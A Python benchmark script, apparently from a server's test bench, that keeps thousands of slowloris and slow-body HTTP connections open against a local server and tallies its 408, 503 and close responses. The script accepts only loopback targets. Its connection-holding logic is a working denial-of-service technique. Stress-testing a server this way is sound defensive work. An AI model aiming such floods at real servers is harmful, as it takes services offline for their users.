#!/usr/bin/env python3
"""Hostile clients for bench/hostile.sh (stdlib only).

    attack.py --port 18080 [--host 127.0.0.1] [--slowloris 5000]
              [--slow-bodies 5000] [--interval 2] [--duration 60] [--source 127.0.0.3]

Keeps two crowds of connections open against one server until SIGTERM,
SIGINT or --duration seconds:

- slowloris: sends the start of a request head ("GET / HTTP/1.1\\r\\nHost: a\\r\\n")
  and then one more header byte every --interval seconds, never ending it;
- slow bodies: a complete `POST /contacts` head declaring a 1 MiB text/csv
  body, the CSV header, then one body byte every --interval seconds.

A connection the server closes (or answers) is counted by what it was told
(the status line, or "closed") and replaced at once, so each crowd stays at
its size. Connections are opened in batches, and every one binds --source
(a loopback address of its own, with IP_BIND_ADDRESS_NO_PORT) so that the
measuring client's ephemeral ports are left alone.

Prints one line when both crowds are open,

    READY slowloris=N slow_bodies=M open_s=SECONDS

and at the end one line of totals,

    DONE opened=N failed=F answered_408=A answered_503=B answered_other=C closed=D held_s=S

Only loopback (127.0.0.0/8) targets are accepted.
"""

import argparse
import asyncio
import ipaddress
import resource
import signal
import sys
import time

# The same loopback-source connect as the idle-connection holder.
from hold_idle import connect_from

def eprint(*a):
    print("attack:", *a, file=sys.stderr, flush=True)


class Tally:
    def __init__(self):
        self.opened = 0
        self.failed = 0
        self.answers = {}

    def answer(self, what):
        self.answers[what] = self.answers.get(what, 0) + 1


async def one_attacker(kind, args, tally, stop, opened_event):
    """One slot of a crowd: a connection, replaced whenever it ends."""
    if kind == "slowloris":
        first = f"GET /plaintext HTTP/1.1\r\nHost: {args.host}\r\nX-Slow: ".encode()
        drip = b"a"
    else:
        first = (
            f"POST /contacts HTTP/1.1\r\nHost: {args.host}\r\nContent-Type: text/csv\r\n"
            "Content-Length: 1048576\r\n\r\nname\n"
        ).encode()
        drip = b"A"
    announced = False
    while not stop.is_set():
        try:
            reader, writer = await asyncio.wait_for(connect_from(args.host, args.port, args.source), 10)
        except Exception:
            tally.failed += 1
            await asyncio.sleep(0.5)
            continue
        tally.opened += 1
        if not announced:
            announced = True
            opened_event()
        try:
            writer.write(first)
            await writer.drain()
            while not stop.is_set():
                try:
                    line = await asyncio.wait_for(reader.readline(), args.interval)
                except asyncio.TimeoutError:
                    writer.write(drip)
                    await writer.drain()
                    continue
                parts = line.split(b" ")
                if len(parts) >= 2 and parts[0].startswith(b"HTTP/"):
                    tally.answer(parts[1].decode("latin-1"))
                else:
                    tally.answer("closed")
                break
        except (ConnectionError, OSError):
            tally.answer("closed")
        finally:
            writer.transport.abort()


async def main(args):
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    tally = Tally()
    total = args.slowloris + args.slow_bodies
    ready = {"n": 0}
    all_open = asyncio.Event()

    def opened():
        ready["n"] += 1
        if ready["n"] >= total:
            all_open.set()

    t0 = time.monotonic()
    tasks = []
    kinds = ["slowloris"] * args.slowloris + ["slow_body"] * args.slow_bodies
    # Interleave the crowds, open in batches so the backlog is not the limit.
    kinds = [k for pair in zip(kinds[::2], kinds[1::2]) for k in pair] + (kinds[-1:] if len(kinds) % 2 else [])
    for i in range(0, len(kinds), args.batch):
        for kind in kinds[i : i + args.batch]:
            tasks.append(asyncio.create_task(one_attacker(kind, args, tally, stop, opened)))
        await asyncio.sleep(0.05)
    try:
        await asyncio.wait_for(all_open.wait(), 120)
    except asyncio.TimeoutError:
        eprint(f"only {ready['n']} of {total} connections opened within 120 s")
    print(
        f"READY slowloris={args.slowloris} slow_bodies={args.slow_bodies} "
        f"open_s={time.monotonic() - t0:.2f}",
        flush=True,
    )
    try:
        await asyncio.wait_for(stop.wait(), args.duration)
    except asyncio.TimeoutError:
        pass
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    a = tally.answers
    other = sum(v for k, v in a.items() if k not in ("408", "503", "closed"))
    print(
        f"DONE opened={tally.opened} failed={tally.failed} answered_408={a.get('408', 0)} "
        f"answered_503={a.get('503', 0)} answered_other={other} closed={a.get('closed', 0)} "
        f"held_s={time.monotonic() - t0:.1f}",
        flush=True,
    )


if __name__ == "__main__":
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--slowloris", type=int, default=5000)
    p.add_argument("--slow-bodies", type=int, default=5000)
    p.add_argument("--interval", type=float, default=2.0, help="seconds between dripped bytes")
    p.add_argument("--duration", type=float, default=120, help="stop after this many seconds")
    p.add_argument("--batch", type=int, default=500)
    p.add_argument("--source", default="127.0.0.3", help="local address to connect from")
    args = p.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        sys.exit("attack.py: only loopback targets are allowed")
    if not ipaddress.ip_address(args.source).is_loopback:
        sys.exit("attack.py: --source must be a loopback address")
    need = args.slowloris + args.slow_bodies + 100
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(need, hard), hard))
    asyncio.run(main(args))
